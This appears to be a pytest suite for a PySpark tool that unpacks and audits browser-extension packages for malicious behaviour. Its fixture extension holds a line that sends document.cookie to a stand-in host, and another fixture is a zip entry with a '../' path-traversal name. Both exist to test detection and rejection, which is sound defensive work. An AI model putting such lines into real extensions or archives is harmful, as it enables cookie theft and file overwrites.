"""Packages, manifests, stored documents."""

import io
import json
import struct
import zipfile

import pytest
from pyspark.sql import functions as F

from packsift.plans.audit import PackageAudit, audit_packages
from packsift.sources import manifests, packages, stored


def make_zip(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


MANIFEST = json.dumps({"manifest_version": 3, "name": "__MSG_app__", "version": "1", "default_locale": "es", "permissions": ["cookies"],
                       "host_permissions": ["<all_urls>"], "background": {"service_worker": "bg.js"}})
GOOD = {"manifest.json": MANIFEST, "bg.js": 'import "./lib.js";\nfetch("https://x.example.org/" + document.cookie);\n', "lib.js": "export const a = 1;\n",
        "lost.js": "b()\n", "_locales/es/messages.json": json.dumps({"app": {"message": "Hola"}}), "img/a.bin": b"\xff\xfe\x00"}


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    base = tmp_path_factory.mktemp("packages")
    good = make_zip(GOOD)
    (base / "plain.zip").write_bytes(good)
    (base / "crx3.crx").write_bytes(b"Cr24" + struct.pack("<II", 3, 7) + b"h" * 7 + good)
    (base / "crx2.crx").write_bytes(b"Cr24" + struct.pack("<III", 2, 3, 4) + b"k" * 7 + good)
    (base / "escape.zip").write_bytes(make_zip({"../evil.js": "x", "manifest.json": "{}"}))
    (base / "noise.zip").write_bytes(b"not a zip at all")
    spoiled = bytearray(make_zip(GOOD | {"data.txt": "plain words " * 50}))
    spoiled[bytes(spoiled).index(b"data.txt") + 12] ^= 255  # inside the compressed data of one entry
    (base / "spoiled.ZIP").write_bytes(bytes(spoiled))
    (base / "bare.zip").write_bytes(make_zip({"a.js": "x()"}))
    (base / "badmanifest.zip").write_bytes(make_zip({"manifest.json": "[1", "a.js": "x()"}))
    return str(base)


def test_unpack(spark, folder):
    blobs = packages.read_packages(spark, folder)
    name = {r.ext_id: r.name for r in blobs.select("ext_id", "name").collect()}
    files, rejects = packages.unpack(blobs)
    per_package = {name[r.ext_id]: r["count"] for r in files.groupBy("ext_id").count().collect()}
    assert per_package["plain"] == per_package["crx3"] == per_package["crx2"] == per_package["spoiled"] == len(GOOD)
    assert {(name[r.ext_id], r.reject.split(" (")[0]) for r in rejects.collect()} == {
        ("escape", "unsafe path"), ("noise", "not a zip archive"), ("spoiled", "unreadable entry")}


def test_audit_of_real_packages(spark, folder):
    blobs = packages.read_packages(spark, folder)
    copies = blobs.unionByName(blobs.filter("name = 'plain'").withColumn("path", F.lit("elsewhere/plain.zip")))
    audit = PackageAudit(copies)
    name = {r.ext_id: r.name for r in blobs.select("ext_id", "name").collect()}
    assert {(name[r.ext_id], r.reject.split(" (")[0]) for r in audit.rejects.collect()} == {
        ("escape", "unsafe path"), ("noise", "not a zip archive"), ("bare", "no manifest"), ("badmanifest", "manifest is not a JSON object"),
        ("spoiled", "unreadable entry")}
    assert {r.name for r in audit.manifests.collect()} == {"Hola"} and audit.manifests.count() == 4
    assert {name[r.ext_id] for r in audit.orphans.filter("path = 'lost.js'").collect()} == {"plain", "crx2", "crx3", "spoiled"}
    report = {r.name: r for r in audit_packages(copies).collect()}
    assert {n: r.status for n, r in report.items()} == dict.fromkeys(["plain", "crx2", "crx3", "spoiled"], "completed") | dict.fromkeys(
        ["escape", "noise", "bare", "badmanifest"], "failed")
    assert report["noise"].error == "not a zip archive" and report["noise"].verdict is None and report["spoiled"].error.startswith("unreadable entry")
    assert report["plain"].verdict == "malicious" and report["plain"].states["page_reading"] == "critical"
    assert report["plain"].audit_score == report["crx3"].audit_score and len(report["plain"].package_sha256) == 64


def test_locale_order(spark):
    m = spark.createDataFrame([("a", "__MSG_k__", "fr"), ("b", "__MSG_k__", "fr"), ("c", "__MSG_no_such__", "fr"), ("d", "Plain", None)],
                              "ext_id string, name string, default_locale string")
    s = spark.createDataFrame([("a", "en", "k", "English"), ("a", "fr", "k", "French"), ("b", "fr", "k", "French"), ("b", "de", "k", "German")],
                              "ext_id string, locale string, key string, message string")
    assert {r.ext_id: r.name for r in manifests.resolve_names(m, s).collect()} == {"a": "English", "b": "French", "c": "no such", "d": "Plain"}


def test_reports_round_trip(spark, tmp_path):
    df = spark.createDataFrame([("j1", "e1", "bad\u0000name", 3.5)], "job_id string, ext_id string, name string, score double")
    stored.write_reports(df, str(tmp_path / "reports"))
    row = stored.read_reports(spark, str(tmp_path / "reports")).first()
    assert (row.job_id, row.name, row.score, row.findings) == ("j1", "badname", 3.5, None)


def test_batch_export(spark, tmp_path):
    df = spark.createDataFrame([(1, "a", 2.0), (2, "b", 3.0)], "batch int, ext_id string, score double")
    for fmt in ("csv", "parquet"):
        stored.export_batches(df, str(tmp_path / fmt), fmt)
        assert sorted(p.name for p in (tmp_path / fmt).iterdir() if p.is_dir()) == ["batch=1", "batch=2"]


def test_store_category(spark):
    ld = '<script type="application/ld+json">{"itemListElement":[{"name":"Home"},{"name":" extensions "},{"name":"Tools"}]}</script>'
    rows = [(ld,), ("<p>Travel and Shopping</p>",), ("<p>none</p>",), ('<script type="application/ld+json">{broken</script> Games',)]
    got = [r[0] for r in spark.createDataFrame(rows, "h string").coalesce(1).select(stored.store_category(F.col("h"))).collect()]
    assert got == ["Tools", "Shopping", None, "Games"]
